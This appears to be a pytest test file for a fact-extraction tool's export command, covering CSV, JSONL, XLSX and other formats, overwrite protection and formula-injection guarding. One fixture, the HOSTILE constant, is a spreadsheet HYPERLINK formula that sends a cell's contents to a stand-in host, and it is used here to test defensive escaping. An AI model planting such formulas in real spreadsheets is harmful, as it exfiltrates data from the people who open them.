"""`extract export`: the facts in other formats, whole, safe to open, and nothing else overwritten."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from commands import Outcome, extract_command
from hypothesis import given
from hypothesis import strategies as st

from extract import export_xlsx
from extract.extras import how_to_install
from extract.spreadsheet import guarded, unguarded
from extract.table_schema import FACTS
from extract.validation import Validation

NAMES = [column.name for column in FACTS.columns]
HOSTILE = '=HYPERLINK("http://example.com/?q="&A1;"Xem thêm") có 12 chợ.'


@pytest.fixture
def hostile_run(tmp_path: Path) -> Path:
    """The output of a run over articles whose sentences look like formulas."""
    (tmp_path / "in").mkdir()
    for name, text in (("a", HOSTILE), ("b", "- Tỉnh có 13 chợ."), ("c", "+84 là mã vùng.\n@Xã có 14 chợ.")):
        (tmp_path / "in" / f"{name}.txt").write_text(text, encoding="utf-8")
    assert extract_command("run", tmp_path / "in", "--out", tmp_path / "out", "-q").code == 0
    return tmp_path / "out"


def facts_of(out: Path) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = pq.read_table(out / "facts.parquet").to_pylist()
    return rows


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_csv_holds_every_column_of_every_fact(tmp_path: Path, seeds_run: Path) -> None:
    path = tmp_path / "facts.csv"
    outcome = extract_command("export", seeds_run, "--to", "csv", "-o", path)
    assert outcome == Outcome(0, "", f"{path}: 107 facts\n")
    rows = read_csv(path)
    assert list(rows[0]) == NAMES
    facts = facts_of(seeds_run)
    for name in ("fact_id", "metric_text", "sentence", "rule_ids", "province_code"):
        assert [row[name] for row in rows] == [fact[name] or "" for fact in facts]
    assert [float(row["value"]) for row in rows] == [fact["value"] for fact in facts]
    assert [row["confidence"] for row in rows] == [f"{fact['confidence']:.3g}" for fact in facts]
    assert (rows[0]["value"], rows[0]["period_start"]) == ("20", "2030-01-01")
    assert list(Validation(path).faults()) == []


def test_plain_csv_is_exact_and_csv_for_spreadsheets_is_guarded(tmp_path: Path, hostile_run: Path) -> None:
    sentences = [fact["sentence"] for fact in facts_of(hostile_run)]
    assert [sentence[0] for sentence in sentences] == ["=", "-", "@"]
    plain, guarded_file = tmp_path / "plain.csv", tmp_path / "excel.csv"
    extract_command("export", hostile_run, "--to", "csv", "-o", plain)
    extract_command("export", hostile_run, "--to", "csv", "-o", guarded_file, "--excel")
    assert [row["sentence"] for row in read_csv(plain)] == sentences
    assert [row["sentence"] for row in read_csv(guarded_file)] == [f"'{sentence}" for sentence in sentences]
    assert (plain.read_bytes()[:3], guarded_file.read_bytes()[:3]) == (b'"fa', b"\xef\xbb\xbf")
    # Offsets hold in both.
    for path in (plain, guarded_file):
        assert list(Validation(path).faults()) == []


@given(st.text("'=+-@\t\n＝a1", max_size=6))
def test_what_is_guarded_is_no_formula_and_comes_back(text: str) -> None:
    cells = guarded(pa.array([text, None]))
    assert cells[0].as_py()[:1] not in set("=+-@\t\n＝")
    assert unguarded(cells).to_pylist() == [text, None]


def test_json_lines(tmp_path: Path, seeds_run: Path) -> None:
    path = tmp_path / "facts.jsonl"
    assert extract_command("export", seeds_run, "--to", "jsonl", "-o", path).code == 0
    rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert [list(row) for row in rows] == [NAMES] * 107
    (first, *_), (fact, *_) = rows, facts_of(seeds_run)
    assert first == {
        **fact,
        "value": 20,
        "period_start": "2030-01-01",
        "period_end": "2030-12-31",
        "confidence": round(fact["confidence"], 3),
    }


def test_a_workbook_holds_text_numbers_and_days_and_no_formula(tmp_path: Path, hostile_run: Path) -> None:
    path = tmp_path / "facts.xlsx"
    outcome = extract_command("export", hostile_run, "--to", "xlsx", "-o", path)
    assert outcome == Outcome(0, "", f"{path}: 3 facts\n")
    sheet = openpyxl.load_workbook(path).active
    header, *rows = sheet.iter_rows()
    assert [cell.value for cell in header] == NAMES
    sentence, value = NAMES.index("sentence"), NAMES.index("value")
    assert [(row[sentence].value, row[sentence].data_type) for row in rows] == [
        (HOSTILE, "s"),
        ("- Tỉnh có 13 chợ.", "s"),
        ("@Xã có 14 chợ.", "s"),
    ]
    assert [(row[value].value, row[value].data_type) for row in rows] == [(12, "n"), (13, "n"), (14, "n")]
    assert all(cell.hyperlink is None for row in rows for cell in row)


def test_days_codes_and_confidence_in_a_workbook(tmp_path: Path, seeds_run: Path) -> None:
    path = tmp_path / "facts.xlsx"
    extract_command("export", seeds_run, "--to", "xlsx", "-o", path)
    first = dict(zip(NAMES, next(openpyxl.load_workbook(path).active.iter_rows(min_row=2)), strict=True))
    assert first["period_start"].value == dt.datetime(2030, 1, 1)
    assert first["period_start"].number_format == "yyyy-mm-dd"
    confidence = round(facts_of(seeds_run)[0]["confidence"], 3)
    assert (first["province_code"].value, first["confidence"].value) == ("60", confidence)


def test_days_that_excel_does_not_know_are_text(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("Năm 1897, tỉnh có 12 chợ.", encoding="utf-8")
    extract_command("run", tmp_path / "a.txt", "--out", tmp_path / "out", "-q")
    path = tmp_path / "facts.xlsx"
    extract_command("export", tmp_path / "out", "--to", "xlsx", "-o", path)
    row = dict(zip(NAMES, next(openpyxl.load_workbook(path).active.iter_rows(min_row=2)), strict=True))
    assert row["period_start"].value == "1897-01-01"


@pytest.mark.parametrize("chosen", [(), ("--status", "actual")])
def test_more_facts_than_a_sheet_has_rows_are_refused(
    tmp_path: Path, seeds_run: Path, monkeypatch: pytest.MonkeyPatch, chosen: tuple[str, ...]
) -> None:
    monkeypatch.setattr(export_xlsx, "MAX_FACTS", 20)
    outcome = extract_command("export", seeds_run, "--to", "xlsx", "-o", tmp_path / "facts.xlsx", *chosen)
    assert outcome.code == 2
    assert "error: --to xlsx: a sheet holds 20 facts and there are more: choose fewer with" in outcome.err
    assert list(tmp_path.iterdir()) == []


def test_cells_longer_than_a_cell_may_be_are_cut_and_told(
    tmp_path: Path, seeds_run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_xlsx, "MAX_CELL", 100)
    path = tmp_path / "facts.xlsx"
    outcome = extract_command("export", seeds_run, "--to", "xlsx", "-o", path, "--document", "000")
    column = NAMES.index("sentence")
    cells = [
        row[column] for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2, values_only=True)
    ]
    wanted = [fact["sentence"] for fact in facts_of(seeds_run) if fact["doc_id"].startswith("000")]
    assert cells == [text if len(text) <= 100 else f"{text[:99]}…" for text in wanted]
    assert "cut to the 100 characters that a cell holds" in outcome.err


@pytest.mark.parametrize("to", ["csv", "jsonl", "xlsx", "sdmx-csv", "label-studio"])
def test_the_same_facts_give_the_same_bytes(tmp_path: Path, seeds_run: Path, to: str) -> None:
    suffix = {"jsonl": "jsonl", "xlsx": "xlsx", "label-studio": "json"}.get(to, "csv")
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        target = tmp_path / name / f"facts.{suffix}"
        assert extract_command("export", seeds_run, "--to", to, "-o", target).code == 0
    one, two = (
        {path.name: path.read_bytes() for path in (tmp_path / name).iterdir()} for name in ("one", "two")
    )
    assert one == two


def test_filters_are_those_of_show(tmp_path: Path, seeds_run: Path) -> None:
    chosen = ["--province", "ben tre", "--status", "actual", "--min-confidence", "0.6"]
    path = tmp_path / "facts.csv"
    assert extract_command("export", seeds_run, "--to", "csv", "-o", path, *chosen).code == 0
    shown = extract_command("show", seeds_run, *chosen, "--format", "csv").out
    wanted = [row["fact_id"] for row in csv.DictReader(io.StringIO(shown))]
    assert wanted
    assert [row["fact_id"] for row in read_csv(path)] == wanted


def test_an_unknown_province_leaves_no_file(tmp_path: Path, seeds_run: Path) -> None:
    path = tmp_path / "facts.csv"
    outcome = extract_command("export", seeds_run, "--to", "csv", "-o", path, "--province", "Bến Te")
    assert (outcome.code, "Bến Tre" in outcome.err) == (2, True)
    assert list(tmp_path.iterdir()) == []


def test_a_place_written_in_a_later_part_of_the_table_is_found(
    tmp_path: Path, seeds_run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("extract.table._BATCH_ROWS", 3)
    places = [(fact["place_text"], fact["place_level"]) for fact in facts_of(seeds_run)]
    place = next(text for text, level in reversed(places) if level not in ("country", "province", None))
    path = tmp_path / "facts.csv"
    assert extract_command("export", seeds_run, "--to", "csv", "-o", path, "--province", place).code == 0
    assert {row["place_text"] for row in read_csv(path)} == {place}


def test_what_must_not_be_replaced(tmp_path: Path) -> None:
    (tmp_path / "news.csv").write_text("id,text\n1,Xã có 12 chợ.\n", encoding="utf-8")
    out = tmp_path / "out"
    assert extract_command("run", tmp_path / "news.csv", "--out", out, "-q").code == 0
    (tmp_path / "facts.structure.json").write_text("{}")
    (tmp_path / "a").mkdir()
    before = {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    for to, path, reason in (
        ("csv", tmp_path / "news.csv", "is an article that the run read: choose another name"),
        ("csv", tmp_path / "facts.parquet", "csv is written to a file that ends with .csv"),
        ("label-studio", out / "croissant.json", "is a table of the run itself"),
        ("csv", tmp_path / "none" / "facts.csv", "its folder does not exist"),
        ("xlsx", tmp_path / "a", "xlsx is written to a file that ends with .xlsx"),
    ):
        outcome = extract_command("export", out, "--to", to, "-o", path)
        assert outcome == Outcome(2, "", f"error: {path}: {reason}\n")
    outcome = extract_command("export", out, "--to", "sdmx-csv", "-o", tmp_path / "facts.csv")
    beside = tmp_path / "facts.structure.json"
    assert outcome == Outcome(2, "", f"error: {beside}: was not written by an export: move it elsewhere\n")
    assert {path: path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()} == before


def test_an_export_is_replaced_by_the_next(tmp_path: Path, seeds_run: Path) -> None:
    for to, name in (("csv", "facts.csv"), ("sdmx-csv", "panel.csv"), ("label-studio", "tasks.json")):
        for _ in range(2):
            outcome = extract_command("export", seeds_run, "--to", to, "-o", tmp_path / name)
            assert (to, outcome.code) == (to, 0)
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "facts.csv",
        "panel.csv",
        "panel.structure.json",
        "tasks.json",
        "tasks.labeling.xml",
    ]


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        (("--to", "xlsx", "-o", "f.xlsx", "--excel"), "--excel: is for --to csv"),
        (("--to", "csv", "-o", "f.csv", "--text-column", "body"), "--texts: is for --to label-studio"),
        (("--to", "csv", "-o", "f.csv", "--status", "done"), "'done' is neither actual nor target"),
        (("--to", "sdmx-csv", "-o", "f.csv", "--document", "0"), "--document: chooses no rows of the panel"),
    ],
)
def test_options_that_fit_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, seeds_run: Path, arguments: tuple[str, ...], reason: str
) -> None:
    monkeypatch.chdir(tmp_path)
    outcome = extract_command("export", seeds_run, *arguments)
    assert (outcome.code, reason in outcome.err) == (2, True)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(("command", "library", "extra"), [
    (("validate",), "pandera", "validate"),
    (("export", "--to", "xlsx", "-o", "f.xlsx"), "xlsxwriter", "xlsx"),
])  # fmt: skip
def test_an_extra_that_is_not_installed_is_named(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    seeds_run: Path,
    command: tuple[str, ...],
    library: str,
    extra: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    for module in ("pandera.pandas", "xlsxwriter"):
        if module.startswith(library):
            monkeypatch.setitem(__import__("sys").modules, module, None)
    name, *options = command
    outcome = extract_command(name, seeds_run, *options)
    assert outcome.code == 2
    assert how_to_install(extra) in outcome.err
